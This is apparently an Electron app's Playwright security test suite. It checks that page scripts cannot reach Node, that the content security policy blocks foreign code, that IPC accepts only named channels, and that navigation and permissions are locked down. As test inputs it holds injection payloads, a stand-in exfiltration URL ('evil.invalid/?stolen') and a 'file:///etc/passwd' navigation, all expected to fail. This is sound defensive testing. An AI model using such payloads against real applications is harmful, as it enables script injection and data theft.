import { expect, test } from './fixture.ts'
import { openedLinks, recordOpenedLinks } from './stubs.ts'

// The built app as it starts: nobody is logged in, the log-in screen shows.
test.use({ expectedErrors: /Content Security Policy|violates|refused|ERR_ABORTED|Not allowed to/i })

test('D1: a script in the page reaches neither Node nor Electron, and cannot change what it was given', async ({
  launch,
}) => {
  const { page } = await launch()
  const seen = await page.evaluate(() => {
    const scope = globalThis as unknown as Record<string, any>
    const names = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global']
    const isReadOnly = !Reflect.set(scope, 'inplan', {}) && !Reflect.set(scope['inplan'], 'invoke', () => 'mine')
    return { types: names.map((name) => typeof scope[name]), isReadOnly, keys: Object.keys(scope['inplan']) }
  })
  expect(seen.types).toEqual(Array.from({ length: 7 }, () => 'undefined'))
  expect([seen.isReadOnly, seen.keys]).toEqual([true, ['invoke', 'subscribe']])
})

test('D1: the policy runs no foreign code and lets nothing out', async ({ launch }) => {
  const { page } = await launch()
  const seen = await page.evaluate(async () => {
    const scope = globalThis as unknown as Record<string, unknown>
    const directives = new Set<string>()
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective))
    const settled = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))

    const inline = document.createElement('script')
    inline.textContent = 'window.ran = "inline"'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.invalid/a.js'
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.ran = "frame"</script>'
    const image = document.createElement('img')
    image.src = 'https://evil.invalid/?stolen'
    const style = document.createElement('style')
    style.textContent = 'body { color: red }'
    const handler = document.createElement('div')
    handler.innerHTML = '<img src="data:," onerror="window.ran = \'handler\'">'
    document.body.append(inline, foreign, frame, image, style, handler)
    const link = document.createElement('a')
    link.href = 'javascript:window.ran = "link"'
    document.body.append(link)
    link.click()
    // In a task of its own: what Playwright evaluates may evaluate more.
    const evaluated = await new Promise<string>((resolve) => {
      setTimeout(() => {
        try {
          // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
          resolve(String(new Function('return 1')()))
        } catch {
          resolve('refused')
        }
      })
    })
    const reached = await fetch('https://evil.invalid/').then(
      () => 'reached',
      () => 'refused',
    )
    await settled()
    return { ran: scope['ran'], evaluated, reached, directives: [...directives].toSorted() }
  })
  expect(seen.ran).toBeUndefined()
  expect([seen.evaluated, seen.reached]).toEqual(['refused', 'refused'])
  expect(seen.directives).toEqual(
    expect.arrayContaining([
      'connect-src',
      'img-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]),
  )
})

test('D2: only named channels pass, and only with arguments that fit', async ({ launch }) => {
  const { page } = await launch()
  const seen = await page.evaluate(async () => {
    const { invoke, subscribe } = (globalThis as unknown as { inplan: any }).inplan
    const attempt = async (...args: unknown[]) => {
      try {
        const answer = await invoke(...args)
        return answer.ok ? 'taken' : answer.error.code
      } catch (error) {
        return (error as Error).message
      }
    }
    const hear = (event: string) => {
      try {
        subscribe(event, () => {})
        return 'heard'
      } catch (error) {
        return (error as Error).message
      }
    }
    return [
      await attempt('app.info', []),
      await attempt('app.quit', []),
      await attempt('electron-store-get-data', []),
      await attempt('app.info', ['extra']),
      await attempt('api.call', ['login', { body: {} }, {}]),
      await attempt('api.call', ['https://evil.invalid/', {}, {}]),
      hear('changed'),
      hear('electron-store-data'),
      typeof subscribe('changed', () => {})(),
    ]
  })
  expect(seen).toEqual([
    'taken',
    'app.quit is no channel',
    'electron-store-get-data is no channel',
    'malformed-request',
    'malformed-request',
    'malformed-request',
    'heard',
    'electron-store-data is no event',
    'undefined',
  ])
})

test('D3: the page cannot be led away and opens no window; plain links open outside', async ({ launch }) => {
  const { electron, page } = await launch()
  await recordOpenedLinks(electron)
  const address = page.url()
  const stillHere = () => page.evaluate(() => typeof (globalThis as unknown as { inplan: unknown }).inplan)
  for (const target of ['https://evil.invalid/', 'file:///etc/passwd', 'data:text/html,x', 'app://evil/index.html']) {
    await page.evaluate((url) => {
      location.href = url
    }, target)
    expect(await stillHere(), target).toBe('object')
  }
  for (const target of [
    'https://example.invalid/help',
    'file:///etc/passwd',
    'javascript:1',
    'https://a@evil.invalid/',
  ]) {
    expect(await page.evaluate((url) => window.open(url), target), target).toBeNull()
  }
  await expect.poll(() => openedLinks(electron)).toEqual(['https://example.invalid/help'])
  expect(page.url()).toBe(address)
  await expect.poll(() => electron.windows().length).toBe(1)
})

test('D1: every permission is denied', async ({ launch }) => {
  const { page } = await launch()
  const states = await page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone'] as PermissionName[]
    return Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state))
  })
  expect(states).toEqual(['denied', 'denied', 'denied', 'denied'])
})
